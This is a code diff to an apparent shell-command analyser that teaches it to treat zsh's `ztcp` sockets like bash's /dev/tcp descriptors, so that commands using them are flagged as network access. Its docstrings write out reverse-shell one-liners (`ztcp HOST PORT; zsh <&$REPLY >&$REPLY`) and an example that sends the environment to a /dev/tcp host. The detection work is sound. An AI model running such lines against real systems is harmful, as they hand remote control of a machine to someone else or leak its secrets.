@@ -1381,6 +1381,8 @@ class _Walker:
             argv[0] = self.st.hashed[first]
         if first in ("hash", "enable"):
             self._lookup_table(first, [w.value for w in argv[1:]], argv[1:])
+        elif first == "ztcp" and not pipe_src:
+            self._zsh_tcp([w.value for w in argv[1:]])
         elif first in ("printf", "read") and not pipe_src:
             self._assigning_builtin(first, argv[1:], redirects)
         elif first == "let":
@@ -1475,11 +1477,59 @@ class _Walker:
                 self.st.fds.pop(fd, None)
         return opening
 
+    def _zsh_tcp(self, vals: list[str]) -> None:
+        """zsh's `ztcp` (the zsh/net/tcp module, zshmodules(1)) opens a TCP connection (`ztcp HOST [PORT]`), a listening
+        socket (`ztcp -l PORT`) or accepts on one (`ztcp -a FD`), and puts the new descriptor's number in $REPLY (or
+        in FD with -d): `ztcp HOST PORT; zsh <&$REPLY >&$REPLY` is `exec 3<>/dev/tcp/HOST/PORT; zsh <&3 >&3`, a
+        reverse shell. The descriptor is noted as bash's /dev/tcp one (and taken as opened even in a branch: the
+        worse reading), so the commands that use it are judged as talking to the network."""
+        listen = accept = fixed = None
+        operands: list[str] = []
+        i = 0
+        while i < len(vals):
+            v = vals[i]
+            if v in ("-c", "-L", "-t", "-h"):
+                return  # close, list, test: nothing opened
+            if v in ("-l", "-a", "-d") and i + 1 < len(vals):
+                if v == "-l":
+                    listen = vals[i + 1]
+                elif v == "-a":
+                    accept = vals[i + 1]
+                else:
+                    fixed = vals[i + 1]
+                i += 2
+                continue
+            if not v.startswith("-"):
+                operands.append(v)
+            i += 1
+        if accept is not None:
+            opened = self.st.fds.get(accept)
+            target = opened.target.value if opened is not None and opened.target is not None else "/dev/tcp/0.0.0.0/" + DYN
+        elif listen is not None:
+            target = f"/dev/tcp/0.0.0.0/{listen}"
+        elif operands:
+            target = f"/dev/tcp/{operands[0]}/{operands[1] if len(operands) > 1 else '23'}"
+        else:
+            return
+        fd = fixed if fixed is not None and fixed.isdigit() else str(1000 + len(self.st.fds))
+        self.st.fds[fd] = Redirect("<>", Word(target, target), fd=fd)
+        # tree-sitter-bash hangs the redirections of the last command of `ztcp H P && zsh >&$REPLY` on the whole list,
+        # so their words are read before ztcp is: a descriptor only known at run time is then taken as this socket.
+        self.st.fds[DYN] = self.st.fds[fd]
+        if "REPLY" not in self.st.readonly and fixed is None:
+            self.st.vars["REPLY"] = fd
+            self.st.unset.discard("REPLY")
+
     def _use_descriptors(self, redirects: list[Redirect]) -> list[Redirect] | None:
         """A command's redirections with `>&N` / `<&N` for a descriptor `exec` opened here replaced by the file it
         names (`exec 3>/dev/tcp/h/p; env >&3` is `env > /dev/tcp/h/p`); None when one names a closed descriptor."""
         out = []
         for r in redirects:
+            socket = self.st.fds.get(DYN)
+            if socket is not None and r.target is not None and r.target.value == DYN and r.op in (">", "<", ">&", "<&"):
+                # `>&$REPLY` after zsh's ztcp (_zsh_tcp): the socket it opened
+                out.append(Redirect("<" if r.op in ("<", "<&") else ">", socket.target, fd=r.fd))
+                continue
             if r.op in (">&", "<&") and r.target is not None:
                 n = r.target.value
                 if n in self.st.fds:
